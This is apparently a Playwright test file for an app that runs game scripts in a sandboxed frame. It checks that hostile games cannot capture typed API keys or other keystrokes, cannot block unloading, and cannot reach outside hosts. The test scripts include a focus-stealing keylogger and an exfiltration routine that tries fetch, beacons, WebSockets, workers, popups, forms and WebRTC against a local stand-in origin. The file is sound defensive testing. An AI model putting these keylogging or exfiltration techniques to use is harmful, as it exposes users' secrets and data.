import type { Frame, Page } from '@playwright/test';
import { LOOT, type OtherProgram, startOtherProgram } from '../support/hostile-game.ts';
import { expect, test } from './as-a-writer.ts';

let other: OtherProgram;
test.beforeEach(async () => {
  other = await startOtherProgram();
});
test.afterEach(() => other.close());

const stageOf = (page: Page): Frame | undefined => page.frames().find((frame) => frame.url().includes('.localhost:'));

/** The stage's frame, once the game's script ran in it. */
async function findStage(page: Page): Promise<Frame> {
  await expect
    .poll(() =>
      stageOf(page)
        ?.evaluate(`typeof globalThis.${LOOT}`)
        .catch(() => ''),
    )
    .toBe('object');
  return stageOf(page) as Frame;
}

/** What the game got, in its own words: evaluating in its frame would count as the user's activation of it. */
function listenToLoot(page: Page): { keys: () => string; isReady: () => boolean } {
  const heard: string[] = [];
  page.on('console', (message) => {
    if (message.text().startsWith('LOOT ')) heard.push(message.text().slice(5));
  });
  return { keys: () => heard.filter((word) => word !== 'ready').join(''), isReady: () => heard.includes('ready') };
}

async function startListening(page: Page): Promise<ReturnType<typeof listenToLoot>> {
  const loot = listenToLoot(page);
  // The script may have run before there was a listener.
  await page.getByRole('button', { name: 'Load the stage again' }).click();
  await expect.poll(loot.isReady).toBe(true);
  return loot;
}

test.describe('a game that asks for the focus all the time', () => {
  test.use({
    gameScript: `
      addEventListener('keydown', (event) => { console.log('LOOT ' + event.key); }, true);
      addEventListener('paste', (event) => { console.log('LOOT ' + event.clipboardData.getData('text')); }, true);
      const field = document.createElement('input');
      console.log('LOOT ready');
      setInterval(() => {
        if (!field.isConnected) document.body?.append(field);
        window.focus(); field.focus(); document.body?.focus();
      }, 30);`,
  });

  test('receives no key while a key is typed', async ({ app }) => {
    const { page } = app;
    const loot = await startListening(page);
    await page.getByRole('button', { name: 'Connect a model' }).click();
    const settings = page.getByRole('region', { name: /Settings/ });
    await settings.getByText('Another service').click();
    const key = settings.getByLabel('Key', { exact: true });
    await key.click();
    await page.keyboard.type('sk-typed-under-attack', { delay: 20 });
    await expect(key).toHaveValue('sk-typed-under-attack');
    expect(loot.keys()).toBe('');
  });

  test('is stopped or ignored, and what is typed goes where the user clicked', async ({ app }) => {
    const { page } = app;
    const loot = await startListening(page);
    const code = page.getByTestId('code');
    await code.getByText('小满').first().click();
    // Long enough for a game to be stopped in browsers without the policy that refuses it.
    await page.waitForTimeout(1500);
    await page.keyboard.press('Control+End');
    await page.keyboard.type('; first', { delay: 20 });
    await expect(code.getByText('; first')).toBeVisible();
    expect(loot.keys()).toBe('');
  });
});

test.describe('a game that listens to the keyboard', () => {
  test.use({
    gameScript: `console.log('LOOT ready'); addEventListener('keydown', (event) => { console.log('LOOT ' + event.key); }, true);`,
  });

  test('receives keys after a click on the stage, until something else is clicked', async ({ app }) => {
    const { page } = app;
    const loot = await startListening(page);
    await page.getByRole('button', { name: /^Click to play/ }).click();
    await expect(page.locator('iframe')).toBeFocused();
    // The browser hands the keyboard to the frame's process a moment after the page says so.
    await expect
      .poll(async () => {
        await page.keyboard.press('x');
        return loot.keys();
      })
      .toMatch(/^x/);
    await page.keyboard.type('abc', { delay: 20 });
    await expect.poll(loot.keys).toMatch(/^x+abc$/);
    await page.getByTestId('code').getByText('小满').first().click();
    await page.keyboard.press('Control+End');
    await page.keyboard.type('; mine', { delay: 20 });
    await expect(page.getByTestId('code').getByText('; mine')).toBeVisible();
    expect(loot.keys()).toMatch(/^x+abc$/);
  });
});

test.describe('a game that does not want to be left', () => {
  test.use({
    gameScript: `console.log('LOOT ready'); addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'stay'; });`,
  });

  test('is loaded again when the user says so', async ({ app }) => {
    const { page } = app;
    await startListening(page);
    // Chromium asks only pages that the user has touched.
    await page.getByRole('button', { name: /^Click to play/ }).click();
    await expect(page.locator('iframe')).toBeFocused();
    const mark = () =>
      stageOf(page)
        ?.evaluate('globalThis.__left = true')
        .catch(() => false);
    await expect.poll(mark).toBe(true);
    await page.getByRole('button', { name: 'Load the stage again' }).click();
    // While it loads there is nothing to ask.
    const kind = () =>
      stageOf(page)
        ?.evaluate('typeof globalThis.__left')
        .catch(() => 'loading');
    await expect.poll(kind).toBe('undefined');
  });
});

test.describe('a game that sends what it reads elsewhere', () => {
  test.use({
    gameScript: `
      globalThis.__attack = async (elsewhere, app) => {
        const attempt = async (name, action) => {
          try { loot.got[name] = await Promise.race([action(), new Promise((done) => setTimeout(done, 4000, 'silence'))]); }
          catch (error) { loot.got[name] = 'refused'; }
        };
        await attempt('fetch', async () => (await fetch(elsewhere + '/fetch', { mode: 'no-cors' })).type);
        await attempt('beacon', async () => navigator.sendBeacon(elsewhere + '/beacon', 'x') && 'sent');
        await attempt('image', () => new Promise((done) => { const image = new Image(); image.onload = () => done('loaded'); image.onerror = () => done('refused'); image.src = elsewhere + '/image'; }));
        await attempt('socket', () => new Promise((done) => { const socket = new WebSocket(elsewhere.replace('http', 'ws') + '/socket'); socket.onopen = () => done('open'); socket.onerror = () => done('refused'); }));
        await attempt('serviceWorker', async () => { await navigator.serviceWorker.register('./lib/sw.js'); return 'registered'; });
        await attempt('engineServiceWorker', async () => { await navigator.serviceWorker.register('./webgal-serviceworker.js'); return 'registered'; });
        await attempt('worker', () => new Promise((done) => { const worker = new Worker('./lib/sw.js'); worker.onmessage = () => done('runs'); worker.onerror = () => done('refused'); }));
        await attempt('blobWorker', () => new Promise((done) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => done('runs'); worker.onerror = () => done('refused'); }));
        await attempt('sharedWorker', () => new Promise((done) => { const worker = new SharedWorker('./lib/sw.js'); worker.onerror = () => done('refused'); worker.port.onmessage = () => done('runs'); worker.port.start(); }));
        await attempt('appCall', async () => (await fetch(app + '/call/app.info', { method: 'POST', body: '{}', credentials: 'include', headers: { 'content-type': 'application/json' } })).status);
        await attempt('popup', async () => window.open(elsewhere + '/popup') ? 'opened' : 'refused');
        await attempt('top', async () => { top.location.href = elsewhere + '/top'; return 'asked'; });
        await attempt('prefetch', async () => { for (const rel of ['prefetch', 'preload', 'dns-prefetch', 'preconnect', 'manifest', 'icon', 'stylesheet']) { const link = document.createElement('link'); link.rel = rel; link.as = 'script'; link.href = elsewhere + '/link-' + rel; document.head.append(link); } return 'asked'; });
        await attempt('form', async () => { const form = document.createElement('form'); form.action = elsewhere + '/form'; form.method = 'post'; document.body.append(form); form.submit(); return 'asked'; });
        await attempt('innerFrame', async () => { const inner = document.createElement('iframe'); inner.src = elsewhere + '/inner'; document.body.append(inner); const blank = document.createElement('iframe'); document.body.append(blank); const link = blank.contentDocument.createElement('img'); link.src = elsewhere + '/blank-image'; blank.contentDocument.body.append(link); return 'asked'; });
        await attempt('webrtc', async () => {
          const blank = document.createElement('iframe'); document.body.append(blank);
          const Peer = blank.contentWindow.RTCPeerConnection ?? globalThis.RTCPeerConnection;
          if (!Peer) return 'absent';
          const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:' + new URL(elsewhere).port }] });
          peer.createDataChannel('x');
          const candidates = [];
          peer.onicecandidate = ({ candidate }) => { if (candidate) candidates.push(candidate.candidate); };
          await peer.setLocalDescription(await peer.createOffer());
          await new Promise((done) => setTimeout(done, 1000));
          return 'candidates: ' + candidates.length;
        });
        await attempt('self', async () => { setTimeout(() => { location.href = elsewhere + '/self'; }, 50); return 'asked'; });
        return true;
      };`,
  });

  test('reaches nothing but its own stage', async ({ app }, { project }) => {
    const { page } = app;
    const frame = await findStage(page);
    // Not `URL.origin`: Node has none for the desktop window's scheme.
    const appOrigin = page.url().replace(/\/$/, '');
    await frame.evaluate(`__attack(${JSON.stringify(other.origin)}, ${JSON.stringify(appOrigin)})`);
    const { got } = (await frame.evaluate(`globalThis.${LOOT}`)) as { got: Record<string, unknown> };
    await page.waitForTimeout(1500);
    expect(other.requests.map(({ url }) => url)).toEqual([]);
    expect(page.url().startsWith(appOrigin)).toBe(true);
    expect(page.frames().some((each) => each.url().startsWith(other.origin))).toBe(false);
    expect(got).toMatchObject({
      fetch: 'refused',
      image: 'refused',
      socket: 'refused',
      serviceWorker: 'refused',
      engineServiceWorker: 'refused',
      worker: 'refused',
      blobWorker: 'refused',
      appCall: 'refused',
      popup: 'refused',
    });
    // No page can close WebRTC in a browser for the frames that a game makes; the desktop host does.
    if (project.name === 'electron') expect(other.packets()).toBe(0);
  });
});
